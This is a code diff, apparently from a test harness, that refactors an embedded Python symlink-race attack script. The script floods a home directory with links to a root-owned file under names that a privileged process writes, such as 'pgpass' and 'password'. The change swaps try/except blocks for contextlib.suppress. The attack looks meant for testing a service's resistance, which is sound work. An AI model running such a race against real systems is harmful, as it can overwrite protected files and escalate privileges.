@@ -35,7 +35,8 @@ PYTHON = shutil.which("python3", path=os.defpath) or sys.executable
 
 # Whatever it may write in the home, it fills with links to a file of root's, under the names of what root makes.
 ATTACK = """
-import os, sys, time
+import os, sys
+from contextlib import suppress
 home, victim = sys.argv[1:]
 print("at it", flush=True)
 names = ["password", "data", "pgpass", "up.json", "PG_VERSION.new", "worker.log"]
@@ -49,11 +50,10 @@ while True:
             continue  # its own, for good: to break these is to break its own servers only
         for _ in range(200):
             for name in names:
-                try:
+                with suppress(OSError):
                     os.symlink(victim, f"{directory}/link")
+                with suppress(OSError):
                     os.rename(f"{directory}/link", f"{directory}/{name}")
-                except OSError:
-                    pass
 """
 
 
